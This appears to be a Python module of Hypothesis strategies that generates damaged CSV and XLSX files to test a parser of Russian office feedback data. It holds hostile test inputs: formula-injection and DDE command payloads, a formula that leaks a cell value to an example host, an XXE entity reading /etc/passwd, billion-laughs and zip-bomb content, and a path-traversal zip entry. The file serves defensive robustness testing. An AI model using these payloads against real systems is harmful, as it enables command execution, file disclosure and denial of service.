"""Hypothesis strategies for the malformed files offices really send, and worse: CSV in the wrong
encoding, truncated, with formulas, huge cells, duplicate rows, wrong types and binary garbage;
XLSX with the same cells, and zip containers that are damaged, bombs, traversal names or XML
entities."""

from __future__ import annotations

import io
import re
import zipfile
from datetime import date, datetime

from hypothesis import strategies as st

HEADERS = {
    "open": ["Дата", "Площадка", "Ссылка", "Автор", "Текст", "Охват"],
    "metric": ["Дата", "Код офиса", "Услуга", "Время ожидания в очереди", "Вежливость и компетентность сотрудника",
               "Комментарий"],
    "survey": ["Отметка времени", "Решён ли ваш вопрос?", "Насколько легко было получить услугу?",
               "Что нам стоит улучшить?"],
}
FORMULAS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Нажмите")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+7 912 000-00-00",
    "-2+3+cmd|' /C notepad'!'A1'",
    '=IMPORTXML("http://example.invalid","//a")',
    "=1/0",
]
ODD_TEXT = [
    "", " ", "\t", "\x00", "\u202e", "😀", "Ёлки-палки", "NULL", "None", "nan", "Infinity", "1e309", "-0",
    "31.02.2025", "00.00.0000", "2025-13-45", "01.01.99999", "12/31/2025", "вчера", "999999999999999999999",
    "1 000 000", "12,5", "−5", "5 баллов", "TRUE", "#ЗНАЧ!", "\r\n", '"', '""', ";", ",", "\\", "''",
]
cell_text = st.one_of(
    st.sampled_from(ODD_TEXT),
    st.sampled_from(FORMULAS),
    st.text(max_size=40),
    st.text(alphabet="абвгдеёжзийклмнопрстуфхцчшщъыьэюяАБВГ .,;:!?-0123456789", max_size=80),
    st.integers(min_value=-(10**20), max_value=10**20).map(str),
    st.floats(allow_nan=True, allow_infinity=True).map(str),
    st.dates(min_value=date(1900, 1, 1), max_value=date(2100, 12, 31)).map(lambda d: d.strftime("%d.%m.%Y")),
    st.integers(min_value=0, max_value=6).map(str),
)
huge_cell = st.integers(min_value=10_000, max_value=300_000).map(lambda n: "Очередь! " * (n // 9))


@st.composite
def rows(draw, source: str) -> list[list[str]]:
    width = len(HEADERS[source])
    body = draw(st.lists(st.lists(cell_text, min_size=0, max_size=width + 2), max_size=25))
    if body and draw(st.booleans()):  # duplicate ids: the same rows again
        body += draw(st.lists(st.sampled_from(body), max_size=5))
    if body and draw(st.integers(0, 9)) == 0:
        body[0] = [*body[0][:2], draw(huge_cell)]
    return body


def _csv_text(headers: list[str], body: list[list[str]], delimiter: str, quote_all: bool) -> str:
    def cell(value: str) -> str:
        if quote_all or any(c in value for c in (delimiter, '"', "\n", "\r")):
            return '"' + value.replace('"', '""') + '"'
        return value

    return "\r\n".join(delimiter.join(cell(v) for v in row) for row in [headers, *body]) + "\r\n"


@st.composite
def csv_files(draw, source: str) -> bytes:
    headers = list(HEADERS[source])
    if draw(st.integers(0, 4)) == 0:  # headers renamed, doubled, dropped or garbage
        headers = draw(st.lists(st.sampled_from([*headers, "", "Дата", "???", "\ufeffДата"]), max_size=8))
    text = _csv_text(headers, draw(rows(source)), draw(st.sampled_from([";", ",", "\t", "|"])), draw(st.booleans()))
    encoding = draw(st.sampled_from(["utf-8", "utf-8-sig", "cp1251", "utf-16", "koi8-r", "utf-32", "latin-1"]))
    data = text.encode(encoding, errors="replace") if encoding != "latin-1" else text.encode("utf-8")[::-1]
    damage = draw(st.sampled_from(["none", "truncate", "garbage", "nul", "quote", "cr", "empty", "binary"]))
    if damage == "truncate" and data:
        data = data[: draw(st.integers(0, len(data)))]
    elif damage == "garbage":
        data = draw(st.binary(min_size=1, max_size=200)) + data
    elif damage == "nul":
        data = data.replace(b";", b"\x00", 3)
    elif damage == "quote":
        data = data.replace(b"\n", b'\n"', 1)
    elif damage == "cr":
        data = data.replace(b"\r\n", b"\r")
    elif damage == "empty":
        data = b"" if draw(st.booleans()) else "\ufeff".encode()
    elif damage == "binary":
        data = draw(st.binary(min_size=0, max_size=2000))
    return data


def _value(raw: str, kind: int) -> object:
    """A cell as openpyxl would store what an office types: text, number, date, bool or formula."""
    if kind == 1:
        try:
            return float(raw.replace(",", "."))
        except ValueError:
            return raw
    if kind == 2:
        return datetime(2025, 3, 4, 10, 30)
    if kind == 3:
        return True
    if kind == 4:
        return "=SUM(1,2)"
    return raw


@st.composite
def xlsx_files(draw, source: str) -> bytes:
    from openpyxl import Workbook
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    workbook = Workbook()
    sheet = workbook.active
    headers = list(HEADERS[source]) if draw(st.integers(0, 4)) else draw(st.lists(cell_text, max_size=6))
    body = draw(rows(source))
    for row in [headers, *body]:
        sheet.append([_value(ILLEGAL_CHARACTERS_RE.sub("", v)[:32_000], draw(st.integers(0, 6))) for v in row])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return draw(zip_tricks(_without_clock(buffer.getvalue())))


_STAMP = re.compile(rb"(<dcterms:(?:created|modified)[^>]*>)[^<]*")


def _without_clock(data: bytes) -> bytes:
    """The workbook with its save time fixed (openpyxl writes the clock into docProps and the zip
    entries): the same draws must give the same bytes, or hypothesis cannot replay an example."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            content = _STAMP.sub(rb"\g<1>2026-01-01T00:00:00Z", source.read(info))
            target.writestr(zipfile.ZipInfo(info.filename, date_time=(2026, 1, 1, 0, 0, 0)), content,
                            compress_type=zipfile.ZIP_DEFLATED)
    return out.getvalue()


_BOMB = b"<row>" + b"<c t='inlineStr'><is><t>" + b"A" * 60 + b"</t></is></c>" * 1 + b"</row>"
_XXE = (b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        b'<row r="1"><c r="A1" t="inlineStr"><is><t>&e;</t></is></c></row></sheetData></worksheet>')
_LAUGHS = (b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
           b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><worksheet><sheetData><row><c t="inlineStr"><is><t>&c;'
           b"</t></is></c></row></sheetData></worksheet>")


@st.composite
def zip_tricks(draw, data: bytes) -> bytes:
    trick = draw(st.sampled_from(["none", "none", "truncate", "flip", "drop", "replace", "xxe", "laughs",
                                  "bomb", "traversal", "duplicate", "not_zip"]))
    if trick == "none":
        return data
    if trick == "truncate":
        return data[: draw(st.integers(0, len(data) - 1))]
    if trick == "flip":
        position = draw(st.integers(0, len(data) - 1))
        return data[:position] + bytes([data[position] ^ 0xFF]) + data[position + 1 :]
    if trick == "not_zip":
        return draw(st.binary(max_size=500))
    source = zipfile.ZipFile(io.BytesIO(data))
    names = source.namelist()
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        victim = draw(st.sampled_from(names))
        for name in names:
            content = source.read(name)
            if name == victim and trick == "drop":
                continue
            if name == "xl/worksheets/sheet1.xml" and trick == "xxe":
                content = _XXE
            if name == "xl/worksheets/sheet1.xml" and trick == "laughs":
                content = _LAUGHS
            if name == "xl/worksheets/sheet1.xml" and trick == "bomb":  # ~6 MB of rows, deflated to a few KB
                content = content.replace(b"</sheetData>", _BOMB * 60_000 + b"</sheetData>")
            if name == victim and trick == "replace":
                content = draw(st.binary(max_size=300))
            target.writestr(name, content)
        if trick == "traversal":
            target.writestr("../../../../tmp/cxdesk-evil.txt", b"evil")
        if trick == "duplicate":
            import warnings

            with warnings.catch_warnings():
                warnings.simplefilter("ignore")
                target.writestr("xl/worksheets/sheet1.xml", _XXE)
    return out.getvalue()
